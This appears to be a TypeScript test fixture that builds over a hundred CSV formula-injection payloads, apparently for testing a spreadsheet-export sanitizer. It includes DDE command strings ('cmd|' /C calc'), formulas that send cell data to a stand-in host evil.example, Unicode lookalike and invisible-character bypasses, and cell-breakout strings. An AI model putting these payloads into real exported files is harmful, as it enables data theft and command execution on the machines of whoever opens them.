/** What spreadsheets have taken for formulas, and ways around protections (OWASP, Symfony CVE-2021-41270, workglow#119). */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"Invoice")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '+1+1',
  '+SUM(1,2)',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫SUM(1)',
  '⁺1',
  '⁼1',
  '−1+1',
] as const;

/** What may stand before a formula without stopping a spreadsheet from seeing it. */
const SKIPPED = {
  space: ' ',
  'three spaces': '   ',
  'no-break space': '\u00a0',
  'narrow no-break space': '\u202f',
  'ideographic space': '\u3000',
  'em space': '\u2003',
  'zero-width space': '\u200b',
  'zero-width joiner': '\u200d',
  'word joiner': '\u2060',
  'byte order mark': '\ufeff',
  'soft hyphen': '\u00ad',
  'left-to-right mark': '\u200e',
  'right-to-left override': '\u202e',
  'first strong isolate': '\u2068',
  'combining grapheme joiner': '\u034f',
  'hangul filler': '\u3164',
  'blank braille': '\u2800',
  'variation selector': '\ufe0f',
  bell: '\u0007',
  escape: '\u001b',
} as const;

/** What ends a physical line, so that the next one may be read as a cell of its own. */
const LINE_ENDS = {
  'line feed': '\n',
  'carriage return': '\r',
  both: '\r\n',
  'vertical tab': '\v',
  'form feed': '\f',
  'next line': '\u0085',
  'line separator': '\u2028',
  'paragraph separator': '\u2029',
} as const;

/** Attempts at leaving the cell. */
const BREAKOUTS = [
  '","=1+1',
  '"\r\n"=1+1',
  '"\n=1+1',
  '""=1+1',
  '";=1+1;"',
  'late again\t=1+1',
  '\t=1+1',
  '\tlate again',
  '\rlate again',
  '\nlate again',
  '\r\n\r\n=1+1',
  ' \n =1+1',
  '\u00a0\r\u200b＝1+1',
  'Please\n\n- pay\n+ sign',
  '\0=1+1',
  '=\ud800',
] as const;

/** Name of the case and the hostile text, over a hundred of them. */
export const CSV_PAYLOADS: readonly (readonly [name: string, payload: string])[] = [
  ...FORMULAS.map((formula) => [`the formula ${formula}`, formula] as const),
  ...Object.entries(SKIPPED).flatMap(([name, skipped]) =>
    ['=1+1', '＠SUM(1)'].map((formula) => [`${formula} behind a ${name}`, skipped + formula] as const),
  ),
  ...Object.entries(LINE_ENDS).flatMap(([name, end]) => [
    [`=1+1 after a ${name}`, `The invoice${end}=1+1`] as const,
    [`@SUM(1) behind spaces after a ${name}`, `The invoice${end} \u00a0@SUM(1)`] as const,
    [`=1+1 after a leading ${name}`, `${end}=1+1`] as const,
  ]),
  ...BREAKOUTS.map((text) => [`the breakout ${JSON.stringify(text)}`, text] as const),
];
